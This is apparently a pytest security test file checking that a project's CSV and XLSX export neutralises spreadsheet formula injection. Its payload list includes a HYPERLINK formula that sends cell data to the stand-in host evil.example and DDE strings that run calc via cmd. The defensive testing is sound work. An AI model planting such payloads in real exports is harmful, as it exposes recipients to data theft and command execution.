"""security.md item 22: exported CSV/XLSX cells beginning with = + - @, tab or CR are neutralised.

Proved by reading the files back with independent readers: the csv module, openpyxl
(every text cell has data type 's'), and the raw sheet XML (no ``<f>`` formula element).
"""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import pytest

from stakegraph.export import FORMULA_PREFIXES, ExportError, neutralise, to_csv, to_xlsx

pytestmark = pytest.mark.security

PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1-2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "DDE(\"cmd\";\"/C calc\";\"!A0\")",  # not a prefix: stays as is
]
ROWS = [
    {"id": f"r{i}", "name": p, "amount": -1000.5 * (i + 1), "share": 0.25, "tags": ["=x", "y"]}
    for i, p in enumerate(PAYLOADS)
] + [{"id": "cn", "name": "中国测试银行", "amount": 3, "share": None, "tags": []}]


def _expected(v: str) -> str:
    return "'" + v if v.startswith(FORMULA_PREFIXES) else v


def test_neutralise_each_prefix() -> None:
    for p in FORMULA_PREFIXES:
        assert neutralise(p + "x") == "'" + p + "x"
    assert neutralise("plain") == "plain"
    assert neutralise(-3) == -3 and neutralise(2.5) == 2.5 and neutralise(None) is None
    assert neutralise(["=a", "b"]) == "'=a;b"


def test_22_csv_cells_are_neutralised(tmp_path: Path) -> None:
    path = to_csv(ROWS, tmp_path / "out.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        back = list(csv.DictReader(fh))
    assert [r["name"] for r in back] == [_expected(p) for p in PAYLOADS] + ["中国测试银行"]
    assert back[0]["amount"] == "-1000.5"  # numbers stay numbers
    assert back[0]["tags"] == "'=x;y"
    assert back[-1]["share"] == ""
    for r in back:
        for v in r.values():
            assert not v.startswith(FORMULA_PREFIXES) or v.lstrip("-").replace(".", "").isdigit()


def test_22_xlsx_cells_are_strings_and_neutralised(tmp_path: Path) -> None:
    hostile_header = {"=evil": "=1", "ok": "\x00nul"}
    path = to_xlsx([*ROWS, hostile_header], tmp_path / "out.xlsx", columns=["id", "name", "amount", "tags", "=evil"])
    ws = openpyxl.load_workbook(path).active
    assert ws is not None
    header = [c.value for c in ws[1]]
    assert header == ["id", "name", "amount", "tags", "'=evil"]
    names = [ws.cell(row=i, column=2).value for i in range(2, 2 + len(PAYLOADS))]
    # XML end-of-line handling reads a CR inside text back as LF; the cell still begins with '
    assert names == [_expected(p).replace("\r", "\n") for p in PAYLOADS]
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f", f"{c.coordinate} is a formula: {c.value!r}"
            if isinstance(c.value, str):
                assert c.data_type == "s", c.coordinate
                assert not c.value.startswith(FORMULA_PREFIXES), c.coordinate
    assert ws.cell(row=2, column=3).value == -1000.5 and ws.cell(row=2, column=3).data_type == "n"
    assert ws.cell(row=len(ROWS) + 2, column=5).value == "'=1"
    with zipfile.ZipFile(path) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_rows_must_be_mappings(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="row 1 is a list"):
        to_csv([["=1"]], tmp_path / "x.csv")  # type: ignore[list-item]
    with pytest.raises(ExportError, match="choose a writable path"):
        to_csv([{"a": 1}], tmp_path / "missing-dir" / "x.csv")
